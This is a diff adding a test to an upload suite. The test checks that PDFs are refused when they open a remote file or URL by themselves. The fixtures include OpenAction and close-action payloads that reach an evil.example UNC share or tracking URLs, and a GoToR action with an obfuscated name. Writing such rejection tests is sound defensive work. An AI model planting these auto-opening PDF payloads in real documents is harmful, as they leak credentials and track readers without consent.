@@ -694,6 +694,21 @@ describe.each(testDialects())('artwork and media uploads on $dialect', ({ dialec
       expect((await fetchFile(pdf.body.doc!.url, team.contributor)).status).toBe(200)
     })
 
+    it('refuses a PDF that opens a remote file or address by itself (probe: accepted)', async () => {
+      const reaching = [
+        simplePdf(
+          'Hello',
+          '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >> ',
+        ),
+        simplePdf('Hello', '/OpenAction << /S /URI /URI (https://evil.example/track) >> '),
+        simplePdf('Hello', '/AA << /WC << /S /URI /URI (https://evil.example/closed) >> >> '),
+        simplePdf('Hello', '/Names << /X << /S /G#6FToR /F (remote.pdf) >> >> '),
+      ]
+      for (const bytes of reaching) {
+        await refused('media', { bytes, name: 'x.pdf', type: 'application/pdf' }, 400, /scripts/)
+      }
+    })
+
     it('stores a PDF without who made it: information, XMP, comment authors, old revisions', async () => {
       const sent = await pdfCarryingAuthors()
       for (const name of [PDF_AUTHOR, PDF_EARLIER_AUTHOR]) {
